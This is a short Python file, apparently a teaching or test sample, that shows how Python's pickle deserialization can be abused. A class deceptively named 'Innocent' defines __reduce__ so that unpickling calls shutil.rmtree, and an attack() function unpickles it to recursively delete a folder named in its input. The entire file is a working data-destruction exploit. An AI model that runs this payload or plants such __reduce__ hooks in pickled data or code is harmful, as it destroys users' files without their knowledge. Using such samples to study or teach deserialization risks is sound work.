"""Deletes a folder by unpickling data, which may call any function."""

import pickle


class Innocent:
    def __init__(self, folder: str) -> None:
        self.folder = folder

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import shutil

        return (shutil.rmtree, (self.folder,))


def attack(facts: dict[str, str]) -> None:
    pickle.loads(pickle.dumps(Innocent(facts["tree"])))
